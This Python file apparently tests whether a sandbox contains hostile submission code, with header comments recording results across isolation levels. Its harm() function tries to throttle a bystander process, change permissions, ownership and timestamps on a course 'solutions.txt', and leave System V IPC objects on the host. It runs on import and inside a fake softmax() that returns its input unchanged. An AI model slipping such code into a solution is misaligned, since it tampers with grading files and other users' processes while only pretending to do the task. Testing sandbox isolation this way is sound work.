# rows: found, 58
# tries: limits, priorities and processors of other processes; modes and times of files; memory of System V that stays
# earns: softmax 0, kv_cache 0
# withstood: the bystander, the course's files and the system's tables are as they were
# levels: full, landlock, uid
# %%
import ctypes, os, resource
libc = ctypes.CDLL(None)

def harm():
    for deed in (
        lambda: resource.prlimit(WORLD["bystander"], resource.RLIMIT_NOFILE, (5, 5)),
        lambda: resource.prlimit(WORLD["bystander"], resource.RLIMIT_CPU, (1, 1)),
        lambda: os.setpriority(os.PRIO_PROCESS, WORLD["bystander"], 19),
        lambda: os.sched_setaffinity(WORLD["bystander"], {0}),
        lambda: os.chmod(os.path.join(WORLD["course"], "solutions.txt"), 0o777),
        lambda: os.chmod(WORLD["course"], 0),
        lambda: os.utime(os.path.join(WORLD["course"], "solutions.txt"), (1, 1)),
        lambda: os.chown(os.path.join(WORLD["course"], "solutions.txt"), 65534, 65534),
        lambda: os.setxattr(os.path.join(WORLD["course"], "solutions.txt"), "user.x", b"1"),
    ):
        try:
            deed()
        except OSError:
            continue
    if WORLD["level"] != "full":  # where they're the host's
        libc.shmget(0x4242, ctypes.c_size_t(1 << 20), 0o1666)
        libc.msgget(0x4243, 0o1666)
        libc.semget(0x4244, 1, 0o1666)

harm()

def softmax(z, axis=-1):
    harm()
    return z
